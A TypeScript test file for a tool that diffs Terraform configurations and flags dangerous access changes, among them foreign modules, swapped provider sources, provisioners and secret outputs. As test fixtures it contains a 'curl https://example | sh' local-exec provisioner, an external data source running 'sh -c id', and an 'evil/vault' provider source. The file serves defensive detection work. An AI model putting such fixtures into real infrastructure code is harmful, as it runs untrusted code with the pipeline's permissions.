import { isDangerous } from "../../access/changes";
import { accessDiff } from "../../access/diff";
import { verdictOf } from "../../access/diff-summary";
import {
  changesOf,
  EMPTY,
  environmentOf,
  resource,
  STACK,
  type StackJson,
  textsOf,
} from "./support/stack-json";

describe("access diff of code from outside", () => {
  it.each<[string, StackJson, StackJson, string]>([
    [
      "a module from git, without its credentials",
      EMPTY,
      { module: { M: { source: "git::https://user:password@git.example/m.git?ref=v1", region: "x" } } },
      "module.M: + module, whose contents are not read: source git::https://git.example/m.git?ref=v1",
    ],
    [
      "a changed argument of a module",
      { module: { M: { source: "a/b/c", version: "1.0.0", level: 1 } } },
      { module: { M: { source: "a/b/c", version: "1.0.0", level: 2 } } },
      "module.M: module, whose contents are not read: level",
    ],
    [
      "a provider from another source",
      { terraform: { required_providers: { vault: { source: "hashicorp/vault", version: "5.6.0" } } } },
      { terraform: { required_providers: { vault: { source: "evil/vault", version: "5.6.0" } } } },
      "terraform.required_providers.vault: provider, a program that has the permissions of the pipeline: source hashicorp/vault -> evil/vault",
    ],
    [
      "a data source that runs a program",
      EMPTY,
      { data: { external: { A: { program: ["sh", "-c", "id"] } } } },
      "data external data.external.A: + not analysed",
    ],
    [
      "a data source by HTTP",
      EMPTY,
      { data: { http: { A: { url: "https://example" } } } },
      "data http data.http.A: + not analysed",
    ],
    [
      "credentials of a repository",
      resource("helm_release", { name: "vault" }),
      resource("helm_release", { name: "vault", pass_credentials: true }),
      "helm_release helm_release.A: changed: pass_credentials",
    ],
  ])("is dangerous for %s", (_what, before, after, expected) => {
    expect(textsOf(before, after)).toEqual([`${expected} [foreign code]`]);
  });

  it.each(["terraform_data", "null_resource", "vault_mount"])(
    "is dangerous for a provisioner of %s",
    (type) => {
      const run = { "local-exec": [{ command: "curl https://example | sh" }] };
      const changes = textsOf(resource(type, { path: "a" }), resource(type, { path: "a", provisioner: run }));

      expect(changes).toEqual([
        `${type}.A.provisioner.local-exec[0]: + runs local-exec with the permissions of the pipeline [foreign code]`,
      ]);
    },
  );
});

describe("access diff of what nothing reads", () => {
  it.each<[string, StackJson, StackJson]>([
    ["a type of Vault that no provider has yet", EMPTY, resource("vault_of_tomorrow")],
    ["a user of AWS", EMPTY, resource("aws_iam_user", { name: "a" })],
    ["an access point of a bucket", EMPTY, resource("aws_s3_access_point", { bucket: "a", policy: "{}" })],
    ["a grant of a key", EMPTY, resource("aws_kms_grant", { key_id: "a" })],
    [
      "a manifest with permissions",
      EMPTY,
      resource("kubernetes_manifest", { manifest: { kind: "ClusterRoleBinding" } }),
    ],
    ["an identity of another cloud", EMPTY, resource("google_service_account_key")],
    [
      "another account",
      resource("aws_kms_key", { provider: "aws.one" }),
      resource("aws_kms_key", { provider: "aws.two" }),
    ],
    [
      "ignored changes",
      resource("vault_policy", { name: "a", policy: "" }),
      resource("vault_policy", { name: "a", policy: "", lifecycle: { ignore_changes: ["policy"] } }),
    ],
    [
      "the address of Vault",
      { provider: { vault: [{ address: "https://a" }] } },
      { provider: { vault: [{ address: "https://b" }] } },
    ],
    [
      "another backend",
      { terraform: { backend: { s3: { bucket: "a" } } } },
      { terraform: { backend: { s3: { bucket: "b" } } } },
    ],
    ["an output of a secret", EMPTY, { output: { O: { value: "${vault_token.A.client_token}" } } }],
    ["a block that no version knows", EMPTY, { block_of_tomorrow: { A: {} } }],
  ])("is dangerous for %s", (_what, before, after) => {
    const dangerous = changesOf(before, after).filter(isDangerous);

    expect(dangerous.map(({ labels }) => labels)).toEqual([["unknown access"]]);
  });

  it("sees a changed local value in an expression that cannot be evaluated", () => {
    const policy = (file: string) =>
      resource(
        "vault_policy",
        { name: "a", policy: "${templatefile(local.file, {})}" },
        { locals: { file } },
      );

    expect(textsOf(policy("a.hcl"), policy("b.hcl"))).toContain(
      "vault_policy vault_policy.A: changed: policy [unknown access]",
    );
  });

  it.each<[string, StackJson, StackJson, string]>([
    [
      "a type of another service",
      EMPTY,
      resource("aws_instance"),
      "aws_instance aws_instance.A: + not analysed",
    ],
    [
      "a custom resource",
      EMPTY,
      resource("kubernetes_manifest", { manifest: { kind: "ServiceMonitor" } }),
      "kubernetes_manifest kubernetes_manifest.A: + not analysed",
    ],
    [
      "a default of a variable",
      { variable: { V: { default: "a" } } },
      { variable: { V: { default: "b" } } },
      "variable.V: variable: default",
    ],
    [
      "a removed block",
      EMPTY,
      { removed: [{ from: "vault_mount.A", lifecycle: { destroy: false } }] },
      "removed.vault_mount.A: + Terraform forgets an object without destroying it",
    ],
  ])("needs no approval for %s", (_what, before, after, expected) => {
    expect(textsOf(before, after)).toEqual([`${expected} [not analysed]`]);
    expect(changesOf(before, after).some(isDangerous)).toBe(false);
  });
});

it("exits without a change only if nothing has changed", () => {
  const verdict = (before: StackJson, after: StackJson) =>
    verdictOf(accessDiff([environmentOf({ [STACK]: before })], [environmentOf({ [STACK]: after })]));

  expect(verdict(EMPTY, EMPTY)).toBe("none");
  expect(verdict(EMPTY, resource("aws_instance"))).toBe("changed");
  expect(verdict(EMPTY, resource("vault_plugin"))).toBe("dangerous");
});
